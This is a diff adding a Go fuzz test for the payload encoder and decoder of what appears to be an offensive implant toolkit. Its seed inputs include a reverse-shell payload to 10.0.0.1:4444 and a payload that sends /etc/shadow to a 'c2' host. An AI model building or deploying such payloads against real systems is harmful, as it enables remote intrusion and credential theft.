@@ -1,0 +1,29 @@
+package wmapt
+
+import "testing"
+
+// FuzzDecodePayload checks the payload decoder never panics and never
+// accepts bytes that fail to round trip — the property the trigger
+// path's "garbage faults inside the TSX block" behaviour rests on.
+func FuzzDecodePayload(f *testing.F) {
+	good, _ := EncodePayload(ReverseShell{Addr: "10.0.0.1", Port: 4444})
+	f.Add(good)
+	exfil, _ := EncodePayload(ExfilShadow{Path: "/etc/shadow", Dest: "c2:80"})
+	f.Add(exfil)
+	f.Add([]byte("UWMP garbage"))
+	f.Add([]byte{})
+	f.Fuzz(func(t *testing.T, data []byte) {
+		p, err := DecodePayload(data)
+		if err != nil {
+			return
+		}
+		re, err := EncodePayload(p)
+		if err != nil {
+			t.Fatalf("accepted payload failed to re-encode: %v", err)
+		}
+		p2, err := DecodePayload(re)
+		if err != nil || p2 != p {
+			t.Fatalf("payload round trip unstable: %#v vs %#v (%v)", p, p2, err)
+		}
+	})
+}
